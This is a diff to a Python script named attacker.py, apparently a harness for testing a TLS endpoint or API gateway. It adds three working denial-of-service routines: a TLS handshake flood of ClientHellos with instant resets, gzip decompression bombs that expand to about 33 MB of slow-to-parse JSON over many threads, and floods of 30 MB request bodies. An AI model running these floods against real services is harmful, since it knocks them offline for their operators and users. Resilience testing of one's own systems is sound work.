@@ -5,13 +5,16 @@
 Usage: attacker.py COMMAND [ARGUMENT...]; see COMMANDS at the end. Addresses and names are given, nothing is scanned;
 every loop is bounded. Standard library only.
 """
+import gzip
 import json
 import os
 import resource
+import select
 import socket
 import ssl
 import struct
 import sys
+import threading
 import time
 
 TIMEOUT = float(os.environ.get("TIMEOUT", "8"))
@@ -398,9 +401,120 @@ def long_header(sni, size):
         say(error=outcome(e))
 
 
+def client_hello(sni):
+    """The first bytes of a TLS client that offers no session: the server has all of its work to do."""
+    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+    try:
+        context().wrap_bio(incoming, outgoing, server_hostname=sni).do_handshake()
+    except ssl.SSLWantReadError:
+        pass
+    return outgoing.read()
+
+
+def hellos(sni, connections, until):
+    """Handshakes that cost the client nothing: a ClientHello, the first bytes of the answer, a reset; CONNECTIONS at once, until a
+    file is there."""
+    hello, begun, answered, failed = client_hello(sni), 0, 0, 0
+    at = socket.getaddrinfo(sni, 443, socket.AF_INET, socket.SOCK_STREAM)[0][4]
+    poll, sockets = select.epoll(), {}
+
+    def begin():
+        s = socket.socket()
+        s.setblocking(False)
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+        s.connect_ex(at)
+        sockets[s.fileno()] = s
+        poll.register(s.fileno(), select.EPOLLOUT)
+
+    for _ in range(int(connections)):
+        begin()
+    print(json.dumps({"open": int(connections)}), flush=True)
+    while not os.path.exists(until):
+        for fd, events in poll.poll(0.2):
+            s = sockets[fd]
+            try:
+                if events & select.EPOLLOUT:
+                    s.send(hello)
+                    begun += 1
+                    poll.modify(fd, select.EPOLLIN)
+                    continue
+                answered += bool(s.recv(64))
+            except OSError:
+                failed += 1
+            poll.unregister(fd)
+            sockets.pop(fd).close()
+            begin()
+    say(begun=begun, answered=answered, failed=failed)
+
+
+def dear_bodies(sni, connections, until, size=33000000):
+    """A few kilobytes each, in gzip, that say SIZE bytes of JSON of the kind that is slowest to read, for a model that no route has; over
+    CONNECTIONS connections, until a file is there."""
+    item = b',{' + b",".join(b'"%c":1' % c for c in b"abcdefghijklmnopqrstuvwxyz") + b"}"
+    head = b'{"model":"no-such-model","messages":[{}'
+    text = head + item * ((int(size) - len(head) - 2) // len(item)) + b"]}"
+    body = gzip.compress(text, 9)
+    request = request_bytes(sni, body=body, extra=("Authorization: Bearer placeholder", "Content-Encoding: gzip"))
+    statuses = {}
+
+    def lane():
+        s = None
+        while not os.path.exists(until):
+            try:
+                s = s or context().wrap_socket(dial(sni), server_hostname=sni)
+                s.settimeout(60)
+                s.sendall(request)
+                got = answer(read_answer(s))
+                what = f"{got['status']} {got['reason']}"
+            except OSError as e:
+                what = outcome(e)
+            statuses[what] = statuses.get(what, 0) + 1
+            if not what.startswith(("403", "503")):
+                s = None
+                time.sleep(0.05)
+
+    lanes = [threading.Thread(target=lane) for _ in range(int(connections))]
+    for one in lanes:
+        one.start()
+    print(json.dumps({"open": int(connections), "bytes": len(body)}), flush=True)
+    for one in lanes:
+        one.join()
+    say(statuses=statuses)
+
+
+def large_bodies(sni, connections, until, size=30000000):
+    """SIZE bytes of JSON each, as they are, for a model that no route has."""
+    text = b'{"model":"no-such-model","messages":[{"role":"user","content":"' + b"x" * int(size) + b'"}]}'
+    request = request_bytes(sni, body=text, extra=("Authorization: Bearer placeholder",))
+    statuses = {}
+
+    def lane():
+        while not os.path.exists(until):
+            try:
+                with context().wrap_socket(dial(sni), server_hostname=sni) as s:
+                    s.settimeout(60)
+                    try:
+                        s.sendall(request)
+                    except OSError:
+                        pass  # it answered and closed before all was sent
+                    got = answer(read_answer(s))
+                    what = f"{got['status']} {got['reason']}"
+            except OSError as e:
+                what = outcome(e)
+            statuses[what] = statuses.get(what, 0) + 1
+
+    lanes = [threading.Thread(target=lane) for _ in range(int(connections))]
+    for one in lanes:
+        one.start()
+    print(json.dumps({"open": int(connections)}), flush=True)
+    for one in lanes:
+        one.join()
+    say(statuses=statuses)
+
+
 COMMANDS = {f.__name__.replace("_", "-"): f for f in (
     tls_request, raw, no_sni, ech, garbage, split_hello, resume_other, plain, tcp, slow_uploads, half_open, relays, no_reading, pausing,
-    long_header)}
+    long_header, hellos, dear_bodies, large_bodies)}
 
 if len(sys.argv) < 2 or sys.argv[1] not in COMMANDS:
     sys.exit("usage: attacker.py COMMAND [ARGUMENT...]; commands: " + ", ".join(sorted(COMMANDS)))
